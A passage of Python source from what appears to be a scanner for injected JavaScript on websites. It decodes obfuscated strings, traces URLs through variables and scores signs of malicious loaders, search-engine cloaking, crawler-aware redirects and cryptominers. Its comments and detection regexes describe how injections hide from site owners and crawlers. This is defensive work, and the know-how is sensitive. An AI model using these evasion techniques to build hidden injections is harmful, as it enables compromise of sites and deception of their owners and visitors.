            techs.append("string pieces joined")
            code = dec
    if "+" in code and (_split_url(code) or (techs and _split_url(code, _SPLIT_TAG_TAIL))):
        dec = code
        for _ in range(6):  # each pass joins pairs: chains of up to 64 pieces
            nxt = _CONCAT_PAIR.sub(lambda m: _quote((m.group(1) or m.group(2) or "") + (m.group(3) or m.group(4) or "")), dec)
            if nxt == dec:
                break
            dec = nxt
        if dec != code:
            techs.append("split strings")
            code = dec
    if techs or "['" in code or '["' in code:
        dec = _COMPUTED_MEMBER.sub(lambda m: "." + (m.group(1) or m.group(2)), code)
        if dec != code and techs:
            code = dec
    if not techs:
        return None
    return Resolved(code, techs, strings)


def _entries(body: str) -> list[str]:
    return [_unescape_entry(e.group(0)[1:-1]) for e in _STR_ENTRY_RX.finditer(body)]


def _assigned_name(code: str, j: int) -> str:
    """The variable assigned at `code[j]` (the ``=``), '' for ``obj.prop =`` or ``x[i] =``."""
    while j > 0 and code[j - 1] in " \t\r\n":
        j -= 1
    k = j
    while k > 0 and j - k < 40 and (code[k - 1].isalnum() or code[k - 1] in "_$"):
        k -= 1
    name = code[k:j]
    if not name or name[0].isdigit() or (k and code[k - 1] == "."):
        return ""
    return name


def _join_pieces(code: str, strings: list[str]) -> str:
    """String pieces joined at run time, written as one literal: ``['a','b'].join('')``,
    ``p.join('')`` of an array of literals, ``''.concat('a','b')``."""
    def joined(m: re.Match) -> str:
        text = "".join(_entries(m.group(1)))
        strings.append(text)
        return _quote(text)

    dec = _PIECES_JOIN.sub(joined, code) if "].join(" in code or "] .join(" in code else code
    if ".join(" in dec:
        # name.join(''): str.find jumps to the (few) joins, the regex reads the name before each
        names = set()
        pos = 0
        for _ in range(8):
            i = dec.find(".join(", pos)
            if i < 0:
                break
            m = _NAMED_JOIN.search(dec, max(0, i - 45), i + 16)
            if m:
                names.add(m.group(1))
            pos = i + 6
        arrays: dict[str, str] = {}
        if names:
            for m, _ in zip(_PIECES_ARRAY.finditer(dec), range(40)):
                name = _assigned_name(dec, m.start())
                if name in names and name not in arrays:
                    arrays[name] = "".join(_entries(m.group(1)))
        if arrays:
            def named(m: re.Match) -> str:
                text = arrays.get(m.group(1))
                if text is None:
                    return m.group(0)
                strings.append(text)
                return _quote(text)

            dec = _NAMED_JOIN.sub(named, dec)
    if ".concat(" in dec:
        out = []
        pos = 0
        for _ in range(8):
            i = dec.find(".concat(", pos)
            if i < 0:
                break
            close = dec[i - 1] if i else ""
            # the receiver is a literal: its opening quote is the last one of its kind before it
            q = dec.rfind(close, max(pos, i - 810), i - 1) if close in ("'", '"') else -1
            m = _CONCAT_CALL.match(dec, q) if q >= 0 else None
            if m:
                out.append(dec[pos:m.start()])
                out.append(_quote("".join(_entries(m.group(1)) + _entries(m.group(2)))))
                pos = m.end()
            else:
                out.append(dec[pos:i + 8])
                pos = i + 8
        dec = "".join(out) + dec[pos:]
    return dec


def _letter_escapes(js: str) -> int:
    """Escapes of ASCII letters (``\\x63``, ``\\u0063``): what hides words, where JSON escapes
    punctuation (``\\u003c``) and accented letters (``\\u00e9``)."""
    n = 0
    for _ in _LETTER_ESCAPE.finditer(js):
        n += 1
        if n >= 8:
            break
    return n


_LETTER_ESCAPE = rx("SEO301.letter_escape", r"\\(?:x|u00)[4-7][0-9a-fA-F]", worst_case="\\u004")


def _unescape_entry(e: str) -> str:
    return e.replace("\\'", "'").replace('\\"', '"').replace("\\\\", "\\") if "\\" in e else e


@dataclass(slots=True)
class Intent:
    """Something a script does that an injection would do."""

    kind: str  # writes-resource | redirect | referrer-cloak | ua-cloak | miner
    detail: str
    url: str = ""
    domain: str = ""
    shape: tuple[str, ...] = ()
    gates: tuple[str, ...] = ()  # conditions around the action (see _gates)
    resolved: bool = False  # found in code whose literals were decoded in place (resolve_code)
    vocabulary: bool = False  # read from an encoded string table's words, not from resolved code
    disguise: str = ""  # loaders: the URL passes for a popular library's (jquery.min.js on an unlisted host)


def _hosts_in(js: str, limit: int = 40) -> list[tuple[str, str, str]]:
    """(url, host, port) of URL literals in code."""
    out = []
    for m in _URL_LIT.finditer(js):
        host = m.group(1).lower().rstrip(".")
        if not split_host(host)[2] and not _IPV4.fullmatch(host):
            continue  # no public suffix: a regex or a version string, not a host
        out.append((m.group(0), host, m.group(2) or ""))
        if len(out) >= limit:
            break
    return out


def _foreign_target(text: str, site: str) -> tuple[str, str, tuple[str, ...]] | None:
    """The first URL literal in `text` whose domain is foreign to the site."""
    for url, host, port in _hosts_in(text, 10):
        dom = registered_domain(host)
        if dom and "." in host and foreign(site, dom):
            shape = host_shape(host) + ((f"port {port}",) if port and port not in ("80", "443") else ())
            return url, dom, shape
    return None


def _find_near(js: str, tokens: tuple[str, ...], regex: re.Pattern, before: int, after: int, limit: int = 40):
    """First match of `regex` in a window around an occurrence of one of `tokens`.

    ``str.find`` jumps between the (rare) tokens at C speed, so a regex that has no literal
    prefix never scans a whole bundle.
    """
    best = None
    for tok in tokens:
        pos = 0
        for _ in range(limit):
            i = js.find(tok, pos)
            if i < 0:
                break
            m = regex.search(js, max(0, i - before), i + len(tok) + after)
            if m:
                if best is None or m.start() < best.start():
                    best = m
                break
            pos = i + len(tok)
    return best


def _write_resource_matches(js: str, limit: int = 60):
    """_WRITE_RESOURCE matches, searched only around the places that mention a src.

    Scanning a whole minified bundle with a case-insensitive regex costs more than all the
    rest of this module; ``str.find`` jumps from one "src" to the next at C speed.
    """
    pos = 0
    n = 0
    while n < limit:
        i = js.find("src", pos)
        if i < 0:
            i = js.find("SRC", pos)
            if i < 0:
                return
        n += 1
        lo = max(pos, i - 420)
        win = js[lo:i + 320]
        lt = win.find("<")
        if lt >= 0:
            m = _WRITE_RESOURCE.search(win, lt)
            if m:
                yield m
                pos = lo + m.end()
                continue
        pos = i + 3


def _redirect_matches(js: str, limit: int = 50):
    """_REDIRECT matches at the places that mention ``location``."""
    pos = 0
    n = 0
    while n < limit:
        i = js.find("location", pos)
        if i < 0:
            return
        n += 1
        lo = max(0, i - 12)
        m = _REDIRECT.search(js, lo, i + 40)
        if m:
            yield m
        pos = i + 8


# Every word the checks below look for, found in one pass over a script (a small automaton
# runs behind a SIMD prefilter; a str "in" per word costs a pass each): most scripts contain
# none of them and are done with.
_SCRIPT_TOKENS = ("eval", "atob", "unescape", "fromCharCode", "decodeURI", "\\x", "//", "createElement",
                  "location", "nonymous", "Function(", "setTimeout", "write", "open(")
# what a hidden URL is handed to: a navigation, a created or written element, code run from a string
_ACTION_TOKENS = frozenset(("location", "createElement", "write", "eval", "Function("))
_SCRIPT_AC = ahocorasick_rs.BytesAhoCorasick([t.encode() for t in _SCRIPT_TOKENS],
                                             matchkind=ahocorasick_rs.MatchKind.LeftmostFirst)


def script_tokens(js: str) -> frozenset[str]:
    """Which of _SCRIPT_TOKENS occur in js (a short script is cheaper to test word by word)."""
    if len(js) < 1500:
        return frozenset(t for t in _SCRIPT_TOKENS if t in js)
    found = _SCRIPT_AC.find_matches_as_indexes(js.encode("utf-8", "surrogatepass"))
    return frozenset(_SCRIPT_TOKENS[i] for i, _a, _b in found)


def script_intents(js: str, site: str, tokens: frozenset[str] | None = None, variables: bool = False) -> list[Intent]:
    """What injected code typically does, found in (decoded) script text.

    `variables`: also follow a navigation to a variable back to the URL assigned to it (in
    resolved code, where a decoded literal usually lands in a variable first).
    """
    out: list[Intent] = []
    if tokens is not None and not (tokens & {"//", "location", "nonymous"}):
        return out
    has_url = "//" in tokens if tokens is not None else "//" in js
    tags = has_url and _TAGS_IN_JS.search(js) is not None  # one pass: the regex starts with a literal "<"
    for m in (_write_resource_matches(js) if tags else ()):
        url = m.group(1)
        host = host_of(url if url.startswith("http") else "http:" + url)
        dom = registered_domain(host) if host else ""
        if dom and foreign(site, dom):
            out.append(Intent("writes-resource", f"writes a <{m.group(0)[1:].split()[0].lower()}> from {host}",
                              url, dom, tuple(url_shape(url, host)),
                              _gates(js[max(0, m.start() - 800):m.end() + 300])
                              + _leak_signal(js[m.end():m.end() + 300].split(";", 1)[0]),
                              disguise=_disguise(url, host)))
        if len(out) >= 5:
            break
    tracer = _Tracer(js, site) if variables else None
    if variables and tags:
        # document.write('<script src="' + u + '">') in resolved code: the URL is in a variable
        for m, _ in zip(_WRITE_VAR.finditer(js), range(10)):
            expr = _expr_at(js, m.end())
            tgt = tracer.target(expr, m.start())
            if tgt:
                out.append(_loader_intent(f"writes a <{m.group(1).lower()}> from {tgt[1]}", tgt, js, expr,
                                          _gates(js[max(0, m.start() - 800):m.end() + 300])))
                break
    creates = "createElement" in tokens if tokens is not None else "createElement" in js
    if has_url and (creates or "document[" in js):
        m = _find_near(js, ("createElement",), _CREATE_SCRIPT, before=0, after=40) if creates else None
        if m is None and "document[" in js:
            # document[_0x1a[0]]('script'): the method's name hidden, the tag name plain
            m = _find_near(js, ("document[",), _COMPUTED_CREATE, before=0, after=200)
        if m:
            window = js[m.start():m.start() + 1500]
            # a literal tag name, or a variable whose element then gets a .src
            if m.group(1) or ".src" in window or "src=" in window:
                tgt = None
                stmt = ""
                if tracer is not None:
                    # the value given to .src, followed back through variables and parameters
                    setter = _SRC_SET.search(window)
                    if setter:
                        stmt = _expr_at(window, setter.end())
                        tgt = tracer.target(stmt, m.start() + setter.end())
                if tgt is None:
                    tgt = _foreign_target(window, site)
                    if tgt:
                        k = window.find(tgt[0])
                        stmt = window[k:k + 300].split(";", 1)[0]
                if tgt:
                    what = (m.group(1) or "script").lower()
                    out.append(_loader_intent(f"creates a <{what}> loading {tgt[1]}", tgt, js, stmt,
                                              _gates(js[max(0, m.start() - 800):m.start() + 1500])))
    if has_url and ("location" in tokens if tokens is not None else "location" in js):
        for m in _redirect_matches(js):
            after = js[m.end():m.end() + 300]
            # the value assigned or passed right there, not a URL of a later statement
            head = after.lstrip(" \t\r\n(\"'`+")
            tgt = _foreign_target(after, site) if head[:7].lower() in ("http://", "https:/") or head[:2] == "//" else None
            if variables and tgt is None and head and (head[0].isalpha() or head[0] in "_$"):
                # a variable: the URL assigned to it before (var u = d("https://..."); location.replace(u))
                var = _IDENT.match(head)
                if var and var.end() < len(head) and head[var.end()] in ");, \t}" and var.group(0) not in _NOT_VARS:
                    tgt = tracer.target(var.group(0), m.start())
                elif var and head[var.end():var.end() + 1] == "(":
                    # a decoder called right there: location.href = d('https://...')
                    arg = head[var.end() + 1:].lstrip(" \t\"'`")
                    if arg[:7].lower() in ("http://", "https:/") or arg[:2] == "//":
                        tgt = _foreign_target(head[:300], site)
            ctx = js[max(0, m.start() - 800):m.end() + 300]
            opener = "open" in m.group(0)
            # sent once per visitor: a cookie (or storage key) is checked and set around the
            # redirect, so that the owner, who has been sent once, never sees it again
            gated = ("cookie" in ctx or "Storage" in ctx) and (
                "indexOf" in ctx or "match(" in ctx or "test(" in ctx or "getItem" in ctx or "includes(" in ctx)
            once = " once per visitor (cookie-gated)" if gated else ""
            if "referrer" in ctx and _ENGINES.search(ctx):
                # the classic cloaking injection: only searchers are sent away. Frame-busting
                # and same-site redirects keyed on the referrer have no foreign target.
                t = tgt or _foreign_target(ctx, site)
                if t:
                    out.append(Intent("referrer-cloak", f"redirects visitors who come from a search engine to {t[1]}",
                                      t[0], t[1], t[2], _gates(ctx)))
                continue
            if "userAgent" in ctx:
                if _BOTS.search(ctx):
                    t = tgt or _foreign_target(ctx, site)
                    if t:
                        out.append(Intent("ua-cloak", f"redirects depending on whether the visitor is a crawler, to {t[1]}",
                                          t[0], t[1], t[2], _gates(ctx)))
                    continue
                if tgt and _MOBILE.search(ctx):
                    out.append(Intent("mobile-redirect", f"sends phone users to {tgt[1]}{once}", tgt[0], tgt[1], tgt[2],
                                      _gates(ctx)))
                    continue
            if tgt and not opener:
                out.append(Intent("redirect", f"sends the visitor to {tgt[1]}{once}", tgt[0], tgt[1], tgt[2], _gates(ctx)))
            if len(out) >= 8:
                break
    if ("nonymous" in tokens if tokens is not None else "nonymous" in js):  # CoinHive.Anonymous, CRLT.Anonymous, Client.Anonymous...; miner srcs are checked apart
        low = js.lower()
        for k in MINER_MARKERS:
            if k in low:
                out.append(Intent("miner", f"cryptominer marker '{k}'"))
                break
        else:
            if ".anonymous(" in low and (".start(" in low and ("throttle" in low or "threads" in low)):
                out.append(Intent("miner", "starts an anonymous mining client"))
    return out


# --------------------------------------------------------------------------- gates
# Injected loaders and redirects hide from the site's owner and from crawlers: they act only
# for visitors who arrive from a search engine (the owner types the address), only when the user
# agent is not a crawler (the search engine sees the clean page), only once per browser (a cookie
# or storage marker is checked, then set: whoever looks twice sees nothing), and often after a
# delay; WordPress injections skip visitors with a login cookie (the owner), and some act only on
# phones (the owner checks from a desktop). Each gate alone is common in legitimate code
# (analytics read the referrer, consent managers set cookies, pages skip work for bots); several
# around one action to a foreign host agree. A window flag read and set (``if(!window._x)
# {window._x=1;...}``) and a URL that carries the visited page or referrer are what honest loaders
# do as well (against double inclusion; counters): they only add to other signals.

_MARKER_SET = rx(
    "SEO303.marker_set",
    r"""cookie\s{0,40}+=(?!=)|setItem\s{0,40}+\(|Storage\s{0,40}+(?:\.\s{0,40}+[\w$]{1,40}+|\[[^\]\n]{1,60}+\])\s{0,40}+=(?!=)""",
    worst_case="Storage.a",
)
# a login cookie tested: WordPress injections skip the site's logged-in users (its owner)
_LOGIN_COOKIE = rx(
    "SEO303.login_cookie",
    r"""wordpress_logged_in|wordpress_sec|wp[_-]?+logged|wp-settings-|logged[_-]?+in\b|is_?+admin\b|admin_?+(?:session|logged)""",
    re.IGNORECASE,
    worst_case="wp_",
)
# a flag on the window read and then set (if(!window._x){window._x=1; ...}): runs once per page
_WINDOW_FLAG_TEST = rx(
    "SEO303.window_flag_test",
    r"""!\s{0,40}+(?:window|self|top)\s{0,40}+\.\s{0,40}+([A-Za-z_$][\w$]{0,40}+)(?![\w$]|\s{0,40}+[(.\[])""",
    worst_case="!window.a",
)
_WINDOW_FLAG_SET = rx(
    "SEO303.window_flag_set",
    r"""(?:window|self|top)\s{0,40}+\.\s{0,40}+([A-Za-z_$][\w$]{0,40}+)\s{0,40}+=(?!=)""",
    worst_case="window.a",
)
# the visited page or the referrer put into a loaded URL (?r=' + document.referrer, btoa(location.href))
_LEAK = rx(
    "SEO302.leak",
    r"""referrer|location\s{0,40}+\.\s{0,40}+(?:href|host(?:name)?+)\b|document\s{0,40}+\.\s{0,40}+(?:URL|domain)\b""",
    worst_case="location.",
)
GATE_SEARCH = "visitors from a search engine"
GATE_CRAWLER = "crawlers told apart"
GATE_OWNER = "not for the site's logged-in users"
GATE_ONCE = "once per visitor"
GATE_PHONES = "phones only"
GATE_DELAY = "after a delay"
GATE_FLAG = "once per page (window flag)"
SIGNAL_LEAK = "reports the visited page or referrer"
STRONG_GATES = (GATE_SEARCH, GATE_CRAWLER, GATE_OWNER, GATE_ONCE)
HALF_GATES = (GATE_DELAY, GATE_PHONES)  # hide the action from an owner who looks at once, or from a desktop
CORROBORATING = (GATE_FLAG, SIGNAL_LEAK)  # common in honest loaders: they only add to other signals


def _gates(ctx: str) -> tuple[str, ...]:
    """The conditions an injection puts around its action, found in the code around it."""
    out = []
    pos = 0
    for _ in range(6):
        # an engine's name next to a read of the referrer; host names (googletagmanager.com,
        # bing.com/bat.js) and crawler names (googlebot, mediapartners-google) are no engine test
        i = ctx.find("referrer", pos)
        if i < 0:
            break
        pos = i + 8
        near = ctx[max(0, i - 200):i + 250]
        near = _URL_LIT.sub("", near) if "//" in near else near
        if _ENGINES.search(_BOTS.sub("", near)):
            out.append(GATE_SEARCH)
            break
    if ("userAgent" in ctx or "webdriver" in ctx) and _BOTS.search(_URL_LIT.sub("", ctx) if "//" in ctx else ctx):
        out.append(GATE_CRAWLER)
    if "cookie" in ctx and _LOGIN_COOKIE.search(ctx):
        out.append(GATE_OWNER)
    if ("cookie" in ctx or "Storage" in ctx) and ("indexOf" in ctx or "match(" in ctx or "test(" in ctx
                                                   or "getItem" in ctx or "includes(" in ctx or "search(" in ctx
                                                   or "!localStorage" in ctx or "!sessionStorage" in ctx
                                                   or "!window.localStorage" in ctx) and _MARKER_SET.search(ctx):
        out.append(GATE_ONCE)
    if "userAgent" in ctx and GATE_CRAWLER not in out and _MOBILE.search(ctx):
        out.append(GATE_PHONES)
    if "setTimeout" in ctx:
        out.append(GATE_DELAY)
    if "!" in ctx and ("window" in ctx or "self" in ctx or "top" in ctx):
        tested = {m.group(1) for m, _ in zip(_WINDOW_FLAG_TEST.finditer(ctx), range(8))}
        if tested and any(m.group(1) in tested for m, _ in zip(_WINDOW_FLAG_SET.finditer(ctx), range(16))):
            out.append(GATE_FLAG)
    return tuple(out)


def _leak_signal(stmt: str) -> tuple[str, ...]:
    """SIGNAL_LEAK when the statement that gives a loader its URL adds the visited page or the
    referrer (a traffic broker choosing a payload per site and per search)."""
    return (SIGNAL_LEAK,) if stmt and _LEAK.search(stmt) else ()


# host labels that pass for a library's CDN (static-cdn-jquery.xyz)
_LIBRARY_WORDS = frozenset(("jquery", "bootstrap", "angular", "lodash", "modernizr", "swfobject", "gtag", "fbevents"))


def _full_url(text: str, url: str) -> str:
    """`url` (a scheme and host) with the path that follows it in `text`."""
    j = text.find(url) if url else -1
    if j < 0:
        return url
    m = _URL_REST.match(text, j + len(url))
    return text[j:m.end()]


def _disguise(url: str, host: str) -> str:
    """How a loaded URL passes for a popular library's or tag's: its file name (``jquery.min.js``,
    ``ga.js``) or its host's name (``static-cdn-jquery.xyz``). Only asked of unrelated hosts that
    are not in the known-hosts list, which is where sites load these from."""
    rest = url.split("//", 1)[-1]
    slash = rest.find("/")
    path = rest[slash:].split("?", 1)[0].split("#", 1)[0] if slash >= 0 else ""
    m = _LIBRARY_NAME.search(path) if path.endswith(".js") else None
    if m:
        return f"named like the {m.group(1).lower()} library"
    label = split_host(host)[1] if host else ""
    for word in label.replace("-", " ").replace("_", " ").split():
        if word in _LIBRARY_WORDS or word.startswith("jquery"):
            return f"host named after {word}"
    return ""


def _loader_intent(detail: str, tgt, js: str, stmt: str, gates: tuple[str, ...]) -> Intent:
    """A writes-resource intent, with the signals of its URL (a leak of the page, a disguise)."""
    url, dom, shape = tgt
    host = host_of(url if url[:4].lower() == "http" else "http:" + url) or dom
    return Intent("writes-resource", detail, url, dom, shape, gates + _leak_signal(stmt),
                  disguise=_disguise(_full_url(js, url), host))


def agreement(it: "Intent") -> float:
    """How many independent signals agree on an action to a foreign host.

    1 each: a strong gate (visitors from a search engine, a crawler test, a login cookie test,
    a once-per-visitor cookie or storage marker), a throwaway-looking host (1.5 for a raw IP,
    an odd port or spam words in the name), a loader whose URL passes for a popular library's.
    Half: a delay, a phones-only user-agent test. Half, and only next to a full signal: a
    once-per-page window flag and a URL that reports the visited page or referrer (honest
    loaders do both).
    """
    shape = 0.0
    if strong_shape(it.shape):
        shape = 1.5 if any(r.startswith(("raw IP", "port ", "spam vocabulary")) for r in it.shape) else 1.0
    full = sum(g in STRONG_GATES for g in it.gates) + shape + (1.0 if it.disguise else 0.0)
    n = full + 0.5 * sum(g in HALF_GATES for g in it.gates)
    if full >= 1:
        n += 0.5 * sum(g in CORROBORATING for g in it.gates)
    return n


def resolved_tier(it: "Intent") -> tuple[str, str] | None:
    """(severity, confidence) of an action found only once the code's literals were decoded.

    Hiding the target is one signal; the gates, the host's shape and a library-like URL are the
    others (see :func:`agreement`). With none of them (a vendor's obfuscated widget loading from
    its own host, even with a window flag or the page's address in its URL) there is no finding;
    a half signal alone (a delay, a phones-only test) is medium/low; one (an ad network's
    frequency cap is a once-per-visitor cookie too) is medium; 1.5 high/medium; two or more agree.
    An action read from a table's vocabulary (its lookups not resolved) is capped at high/medium.
    """
    n = agreement(it)
    if it.kind == "referrer-cloak":
        n += 1  # a redirect of searchers only is the classic cloak (analytics loaders read the referrer too)
    if n >= 2:
        tier = ("high", "high")
    elif n >= 1.5:
        tier = ("high", "medium")
    elif n >= 1:
        tier = ("medium", "medium")
    elif n > 0 or it.shape:
        tier = ("medium", "low")
    else:
        return None
    if it.vocabulary and tier == ("high", "high"):
        tier = ("high", "medium")
    return tier


def _gate_words(gates, disguise: str = "") -> str:
    g = [x for x in gates] + ([disguise] if disguise else [])
    return f" ({', '.join(g)})" if g else ""


_IDENT = rx("SEO303.identifier", r"""[A-Za-z_$][\w$]{0,40}+""", worst_case="a")


_NOT_VARS = frozenset(("this", "self", "top", "window", "document", "location", "null", "undefined", "true",
                       "false", "new", "function", "return", "void", "typeof"))
# names a traced value never comes from
_GLOBALS = _NOT_VARS | frozenset((
    "String", "Math", "Date", "Array", "Object", "JSON", "Number", "RegExp", "navigator", "screen", "parent",
    "encodeURIComponent", "encodeURI", "decodeURIComponent", "decodeURI", "escape", "unescape", "btoa", "atob",
    "parseInt", "arguments", "var", "let", "const", "in", "of", "instanceof", "if", "else",
))
# a variable's assignment (``u = ...``, ``u += ...``; not ``==``, ``=>``, ``obj.u =``)
_ASSIGN = rx("SEO303.assignment", r"""(?<![\w$.])([A-Za-z_$][\w$]{0,40}+)\s{0,40}+(\+?+)=(?![=>])""", worst_case="a+")
# a function's parameters: function f(a, b) { | (a, b) => {
_FUNC_PARAMS = rx(
    "SEO303.function_params",
    r"""\bfunction\b\s{0,40}+[\w$]{0,40}+\s{0,40}+\(([\w$,\s]{0,200}+)\)|\(([\w$,\s]{0,200}+)\)\s{0,40}+=>""",
    worst_case="function(a,",
)
# the arguments an immediately invoked function is called with: })(document, u) | }(document, u))
_IIFE_CALL = rx("SEO303.iife_call", r"""\}\s{0,40}+\)?+\s{0,40}+\(([^()]{0,300}+)\)""", worst_case="})(")


def _outside_literals(s: str, i: int, end: int):
    """(index, character, bracket depth before it) for the characters of s[i:end] that are not
    inside a string literal: the one walk both helpers below need."""
    depth = 0
    quote = ""
    j = i
    while j < end:
        c = s[j]
        if quote:
            if c == "\\":
                j += 2
                continue
            if c == quote:
                quote = ""
        elif c in "'\"`":
            quote = c
        else:
            yield j, c, depth
            if c in "([{":
                depth += 1
            elif c in ")]}":
                depth -= 1
        j += 1


def _expr_at(js: str, i: int, limit: int = 400) -> str:
    """The expression that starts at js[i]: up to a `;`, `,` or line end at its own level."""
    end = min(len(js), i + limit)
    for j, c, depth in _outside_literals(js, i, end):
        if depth == 0 and (c in ")]}" or c in ";,\n"):
            return js[i:j]
    return js[i:end]


def _split_top(expr: str, sep: str) -> list[str]:
    """`expr` split at `sep` outside literals and brackets."""
    parts = []
    start = 0
    for j, c, depth in _outside_literals(expr, 0, len(expr)):
        if depth == 0 and c == sep:
            parts.append(expr[start:j])
            start = j + 1
    parts.append(expr[start:])
    return parts


class _Tracer:
    """Follows a value in resolved code back to the literal it is built from.

    Decoded literals seldom stand where they are used: the URL goes into a variable (``var
    u = '...'``), is appended piece by piece in a decoding loop (``u += String.fromCharCode(a[i])``),
    or is handed to a function as an argument (``(function(d, u){ s.src = u })(document, q)``).
    A few hops (assignments before the use, parameters of an immediately invoked function) and a
    fixed budget: resolved code is short, and only it is traced.
    """

    def __init__(self, js: str, site: str):
        self.js = js
        self.site = site
        self.budget = 40
        self._assigns: dict[str, list[tuple[int, bool]]] | None = None

    def assigns(self) -> dict[str, list[tuple[int, bool]]]:
        if self._assigns is None:
            out: dict[str, list[tuple[int, bool]]] = {}
            for m, _ in zip(_ASSIGN.finditer(self.js), range(800)):
                out.setdefault(m.group(1), []).append((m.end(), m.group(2) == "+"))
            self._assigns = out
        return self._assigns

    def target(self, expr: str, pos: int, depth: int = 3) -> tuple[str, str, tuple[str, ...]] | None:
        """The foreign URL that `expr` (found at `pos`) evaluates to or is built from."""
        self.budget -= 1
        if self.budget < 0 or not expr:
            return None
        tgt = _foreign_target(expr, self.site)
        if tgt or depth <= 0:
            return tgt
        value = self.value(expr, pos, depth)
        if value and "//" in value:
            tgt = _foreign_target(_quote(value), self.site)
            if tgt:
                return tgt
        names = []
        for m in _IDENT.finditer(_STRING_LIT.sub("''", expr) if ("'" in expr or '"' in expr) else expr):
            if m.group(0) not in _GLOBALS and not (m.start() and m.string[m.start() - 1] in ".$0123456789"):
                names.append(m.group(0))
            if len(names) >= 6:
                break
        for name in dict.fromkeys(names):
            found = [a for a in self.assigns().get(name, ()) if a[0] < pos][-4:]
            for end, _plus in reversed(found):
                tgt = self.target(_expr_at(self.js, end), end, depth - 1)
                if tgt:
                    return tgt
            if not found:
                arg = self.argument(name, pos)
                if arg:
                    tgt = self.target(arg, pos, depth - 1)
                    if tgt:
                        return tgt
        return None

    def value(self, expr: str, pos: int, depth: int) -> str | None:
        """The string a concatenation of literals and variables holding literals starts with."""
        out = []
        for part in _split_top(expr, "+")[:12]:
            p = part.strip()
            while p[:1] == "(" and p[-1:] == ")":
                p = p[1:-1].strip()
            if len(p) >= 2 and p[0] in "'\"" and p[-1] == p[0] and p[0] not in p[1:-1]:
                out.append(_unescape_entry(p[1:-1]))
                continue
            if depth > 0 and _IDENT.fullmatch(p) and p not in _GLOBALS:
                found = [a for a in self.assigns().get(p, ()) if a[0] < pos and not a[1]]
                v = self.value(_expr_at(self.js, found[-1][0]), found[-1][0], depth - 1) if found else None
                if v is None and not found:
                    arg = self.argument(p, pos)
                    v = self.value(arg, pos, depth - 1) if arg else None
                if v is not None:
                    out.append(v)
                    continue
            break
        return "".join(out) if out else None

    def argument(self, name: str, pos: int) -> str:
        """The argument given for parameter `name` of the function that encloses `pos`, when
        the function is called right where it is defined."""
        best = None
        for m, _ in zip(_FUNC_PARAMS.finditer(self.js, 0, pos), range(60)):
            params = [x.strip() for x in (m.group(1) if m.group(1) is not None else m.group(2)).split(",")]
            if name in params:
                best = (m, params.index(name))
        if best is None:
            return ""
        call = _IIFE_CALL.search(self.js, pos)
        if call is None:
            return ""
        args = _split_top(call.group(1), ",")
        return args[best[1]].strip() if best[1] < len(args) else ""
_ACTION_WRITE = frozenset(("appendChild", "insertBefore", "append", "prepend", "after", "before", "replaceChild"))


def vocabulary_intent(res: "Resolved", plain: str, site: str) -> Intent | None:
    """An action read from an encoded string table's words when its lookups cannot be resolved.

    The foreign URL must be among the decoded strings and its domain absent from the plain code (hidden),
    and the words of an action must be there too (in the strings or the code).
    """
    if not res.strings:
        return None
    joined = " ".join(_quote(x) for x in res.strings[:600])
    tgt = _foreign_target(joined, site)
    if not tgt or tgt[0] in plain or tgt[1] in plain:
        return None
    words = set(m.group(0) for m in _WORD.finditer(joined[:60_000]))
    words.update(m.group(0) for m in _WORD.finditer(plain[:60_000]))
    if "createElement" in words and words & {"script", "iframe"} and "src" in words and words & _ACTION_WRITE:
        what = "script" if "script" in words else "iframe"
        kind, detail = "writes-resource", f"creates a <{what}> loading {tgt[1]}"
    elif words & {"write", "writeln"} and _TAGS_IN_JS.search(joined):
        kind, detail = "writes-resource", f"writes a resource from {tgt[1]}"
    elif "location" in words and words & {"replace", "href", "assign"}:
        kind, detail = "redirect", f"sends the visitor to {tgt[1]}"
    else:
        return None
    gates = _gates(joined + "\n" + res.code[:60_000])
    if kind == "redirect":
        if GATE_SEARCH in gates:
            kind, detail = "referrer-cloak", f"redirects visitors who come from a search engine to {tgt[1]}"
        elif GATE_CRAWLER in gates:
            kind, detail = "ua-cloak", f"redirects depending on whether the visitor is a crawler, to {tgt[1]}"
    return Intent(kind, detail + " (an action spelled by an encoded string table)" + _gate_words(gates),
                  tgt[0], tgt[1], tgt[2], gates, True, True)


# --------------------------------------------------------------------------- page analysis


@dataclass(slots=True)
class ScriptReport:
    obfuscated: list = None  # (script index, techniques, payload intents, snippet)
    obf_score: float = 0.0
    intents: list = None  # (Intent, script index, decoded?)
    unknown_script_domains: set = None
    suspicious_srcs: list = None  # (url, domain, shape)
    miner_srcs: list = None
    outside_html: list = None  # descriptions
    tiny_frames: list = None  # (Frame, reasons, foreign?)
    foreign_frames: set = None
    n_scripts: int = 0
    n_third_party: int = 0
    escape_density: float = 0.0
    frame_signals: list = None  # per tiny_frames entry: Placement of the frame (entry page, once, edge)
    loader_signals: dict = None  # (script index, url) -> Placement of a script-built loader
    disguised_srcs: list = None  # (url, domain, library name, Placement): a library's name on an unrelated host


_SRC_ATTR = rx(
    "SEO302.src_attr",
    r"""<(?:script|iframe)\b[^>]{0,400}?\bsrc\s*+=\s*+["']?+\s*+((?:https?:)?//[^"'\s>]{3,300}+)""",
    re.IGNORECASE,
    worst_case="<script src=",
)


def _outside(where: str, segment: str, site: str) -> list[tuple]:
    """(where, url, foreign domain, shape, obfuscated) for code found outside <html>...</html>."""
    segment = segment[:65536]
    m = _find_near(segment, ("atob", "unescape", "fromCharCode", "decodeURI"), _DECODE_CALL, before=60, after=4)
    obf = bool((m and m.group(1) in ("eval", "Function", "execScript")) or _PACKER.search(segment))
    if not obf and (m or _ESCAPE_RUN.search(segment)):
        payloads, _ = decode_layers(segment)
        obf = any(script_intents(p, site) for p in payloads[:6])
    out = []
    for m in _SRC_ATTR.finditer(segment):
        url = m.group(1)
        host = host_of(url if url[:4].lower() == "http" else "http:" + url)
        dom = registered_domain(host) if host else ""
        if dom and foreign(site, dom):
            out.append((where, url, dom, tuple(url_shape(url, host)), obf))
        if len(out) >= 3:
            break
    if not out:
        out.append((where, "", "", (), obf))
    return out


def _escape_density(js: str) -> float:
    n = js.count("\\x") + js.count("\\u0")
    return min(1.0, 4 * n / max(1, len(js)))


def _tiny(v: str) -> bool:
    v = v.strip().lower().replace("px", "")
    try:
        return float(v) <= 2
    except ValueError:
        return False


# --------------------------------------------------------------------------- placement
# Injections to ordinary-looking hosts. A vendor's hidden frame or loader is an endpoint of a
# service the site signed up for: a path that names the widget (``/tags?id=``,
# ``/receiver.html``, ``/ns.html?id=GTM-..``), usually on a service subdomain, an account or
# site identifier in the URL, and the same vendor's script, preconnect or link elsewhere on the
# page. An injected one is the attacker's own page or script: a site's home page or a one-word
